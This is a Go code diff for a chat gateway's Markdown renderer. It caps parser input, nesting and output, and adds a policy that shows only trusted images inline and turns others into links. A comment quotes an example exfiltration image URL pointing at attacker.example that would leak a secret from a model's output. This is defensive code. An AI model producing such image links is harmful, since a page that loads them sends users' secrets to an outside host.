@@ -2,6 +2,11 @@ package websocket
 
 import (
 	"bytes"
+	"html"
+	"net"
+	"net/url"
+	"strings"
+	"sync/atomic"
 
 	"github.com/microcosm-cc/bluemonday"
 	"github.com/yuin/goldmark"
@@ -17,31 +22,255 @@ import (
 // means the word), and bluemonday's UGC policy then removes anything that
 // could still run (event handlers, javascript: URLs) from what goldmark
 // produced. The widget inserts nothing else as HTML.
+//
+// Rendering is bounded: goldmark is quadratic on some inputs (64 KiB of
+// unclosed links took over a second, deep quote nesting yields 27 bytes
+// of HTML per input byte), so input that is too big or nested too deep is
+// shown as escaped plain text without parsing, and so is output over
+// maxMarkdownOutput. Each event is rendered once for every client
+// (Handler.encodeEvent's cache).
 type markdown struct {
 	md     goldmark.Markdown
 	policy *bluemonday.Policy
+	images imagePolicy
+	// renders counts calls of render, for tests.
+	renders atomic.Int64
 }
 
-func newMarkdown() *markdown {
+// Bounds on what goes through the Markdown parser.
+const (
+	maxMarkdownInput  = 32 << 10  // bytes of Markdown
+	maxMarkdownDepth  = 16        // containers (quotes, list items) opened on one line
+	maxMarkdownLinks  = 512       // "](" link openings, closed or not
+	maxMarkdownDelims = 4096      // emphasis delimiters (* _) and link brackets ([) outside code blocks
+	maxMarkdownOutput = 256 << 10 // bytes of HTML
+)
+
+func newMarkdown(images imagePolicy) *markdown {
 	p := bluemonday.UGCPolicy()
 	p.RequireNoReferrerOnLinks(true)
 	p.AddTargetBlankToFullyQualifiedLinks(true)
+	p.AllowDataURIImages()
 	return &markdown{
 		md: goldmark.New(
 			goldmark.WithExtensions(extension.GFM),
-			goldmark.WithRendererOptions(renderer.WithNodeRenderers(util.Prioritized(rawHTMLAsText{}, 100))),
+			goldmark.WithRendererOptions(renderer.WithNodeRenderers(
+				util.Prioritized(rawHTMLAsText{}, 100),
+				util.Prioritized(imageOrLink{images}, 100),
+			)),
 		),
 		policy: p,
+		images: images,
 	}
 }
 
+// imagePolicy says which images the model's output may show inline: an
+// image loads with no click, so its URL is a channel out of the page
+// (![x](https://attacker.example/log?secret=…)). Allowed: data: images,
+// the gateway's public origin, and the configured image hosts. Other
+// images are shown as links, which the user may choose to follow.
+type imagePolicy struct {
+	public string   // the public URL's host ("chat.example.com" or "host:port"), lowercase
+	hosts  []string // configured hosts, lowercase; "*.x" matches subdomains of x
+}
+
+func newImagePolicy(publicURL string, hosts []string) imagePolicy {
+	var p imagePolicy
+	if u, err := url.Parse(publicURL); err == nil && publicURL != "" {
+		p.public = strings.ToLower(u.Host)
+	}
+	for _, h := range hosts {
+		p.hosts = append(p.hosts, strings.ToLower(strings.TrimSpace(h)))
+	}
+	return p
+}
+
+// inline reports whether the image at src may be shown inline.
+func (p imagePolicy) inline(src string) bool {
+	src = strings.TrimSpace(src)
+	if len(src) > 11 && strings.EqualFold(src[:11], "data:image/") {
+		return true
+	}
+	u, err := url.Parse(src)
+	if err != nil || (u.Scheme != "https" && u.Scheme != "http") || u.Host == "" || u.User != nil {
+		return false
+	}
+	host, name := strings.ToLower(u.Host), strings.ToLower(u.Hostname())
+	if p.public != "" && host == p.public {
+		return true
+	}
+	for _, h := range p.hosts {
+		switch {
+		case strings.HasPrefix(h, "*."):
+			if strings.HasSuffix(name, h[1:]) || strings.HasSuffix(host, h[1:]) {
+				return true
+			}
+		case strings.Contains(h, ":") && net.ParseIP(h) == nil:
+			if host == h { // host:port
+				return true
+			}
+		case name == strings.Trim(h, "[]"):
+			return true
+		}
+	}
+	return false
+}
+
 func (m *markdown) render(src string) string {
+	m.renders.Add(1)
+	if !parseable(src) {
+		return plainHTML(src)
+	}
 	var buf bytes.Buffer
 	if err := m.md.Convert([]byte(src), &buf); err != nil {
 		// goldmark only fails on writer errors; a bytes.Buffer has none.
-		return m.policy.Sanitize(src)
+		return plainHTML(src)
 	}
-	return string(m.policy.SanitizeBytes(buf.Bytes()))
+	out := m.policy.SanitizeBytes(buf.Bytes())
+	if len(out) > maxMarkdownOutput {
+		return plainHTML(src)
+	}
+	return string(out)
+}
+
+// plainHTML shows src as the text it is.
+func plainHTML(src string) string {
+	return "<pre>" + html.EscapeString(src) + "</pre>\n"
+}
+
+// parseable reports whether src is within the bounds goldmark is given:
+// its size, the containers opened at the start of any one line, and, in
+// text outside fenced code blocks, the link openings, emphasis delimiters
+// and brackets (goldmark's cost grows with the square of those).
+func parseable(src string) bool {
+	if len(src) > maxMarkdownInput {
+		return false
+	}
+	links, delims := 0, 0
+	var fence string // the open code fence, if any
+	for line := range strings.Lines(src) {
+		if containerDepth(line) > maxMarkdownDepth {
+			return false
+		}
+		trimmed := strings.TrimLeft(line, " ")
+		if f := fenceOf(trimmed); f != "" && len(line)-len(trimmed) < 4 {
+			switch {
+			case fence == "":
+				fence = f
+				continue
+			case f[0] == fence[0] && len(f) >= len(fence) && strings.TrimSpace(trimmed[len(f):]) == "":
+				fence = ""
+				continue
+			}
+		}
+		if fence != "" {
+			continue
+		}
+		links += strings.Count(line, "](")
+		delims += strings.Count(line, "*") + strings.Count(line, "_") + strings.Count(line, "[")
+		if links > maxMarkdownLinks || delims > maxMarkdownDelims {
+			return false
+		}
+	}
+	return true
+}
+
+// fenceOf is the code fence (``` or ~~~, or longer) that line starts with.
+func fenceOf(line string) string {
+	if line == "" || (line[0] != '`' && line[0] != '~') {
+		return ""
+	}
+	n := 0
+	for n < len(line) && line[n] == line[0] {
+		n++
+	}
+	if n < 3 {
+		return ""
+	}
+	return line[:n]
+}
+
+// containerDepth counts the block quote and list markers a line opens
+// before its text: "> > - 1. x" opens four.
+func containerDepth(line string) int {
+	depth := 0
+	for i := 0; i < len(line); {
+		switch c := line[i]; {
+		case c == ' ' || c == '\t':
+			i++
+		case c == '>':
+			depth++
+			i++
+		case (c == '-' || c == '*' || c == '+') && (i+1 == len(line) || line[i+1] == ' ' || line[i+1] == '\t'):
+			depth++
+			i++
+		case c >= '0' && c <= '9':
+			j := i
+			for j < len(line) && line[j] >= '0' && line[j] <= '9' {
+				j++
+			}
+			if j < len(line) && (line[j] == '.' || line[j] == ')') {
+				depth++
+				i = j + 1
+				continue
+			}
+			return depth
+		default:
+			return depth
+		}
+	}
+	return depth
+}
+
+// imageOrLink renders an image the policy allows as <img>, and any other
+// as a link to it, labelled with its alt text.
+type imageOrLink struct{ policy imagePolicy }
+
+func (r imageOrLink) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
+	reg.Register(ast.KindImage, func(w util.BufWriter, src []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
+		if !entering {
+			return ast.WalkContinue, nil
+		}
+		n := node.(*ast.Image)
+		alt := altText(n, src)
+		dest := util.EscapeHTML(util.URLEscape(n.Destination, true))
+		if r.policy.inline(string(n.Destination)) {
+			_, _ = w.WriteString(`<img src="`)
+			_, _ = w.Write(dest)
+			_, _ = w.WriteString(`" alt="`)
+			_, _ = w.Write(util.EscapeHTML(alt))
+			_, _ = w.WriteString(`">`)
+			return ast.WalkSkipChildren, nil
+		}
+		label := alt
+		if len(label) == 0 {
+			label = n.Destination
+		}
+		_, _ = w.WriteString(`<a href="`)
+		_, _ = w.Write(dest)
+		_, _ = w.WriteString(`">🖼 `)
+		_, _ = w.Write(util.EscapeHTML(label))
+		_, _ = w.WriteString(`</a>`)
+		return ast.WalkSkipChildren, nil
+	})
+}
+
+// altText is the plain text of an image's description.
+func altText(n ast.Node, src []byte) []byte {
+	var b []byte
+	_ = ast.Walk(n, func(c ast.Node, entering bool) (ast.WalkStatus, error) {
+		if !entering {
+			return ast.WalkContinue, nil
+		}
+		switch t := c.(type) {
+		case *ast.Text:
+			b = append(b, t.Segment.Value(src)...)
+		case *ast.String:
+			b = append(b, t.Value...)
+		}
+		return ast.WalkContinue, nil
+	})
+	return b
 }
 
 // rawHTMLAsText renders HTML blocks and inline HTML escaped, as text.
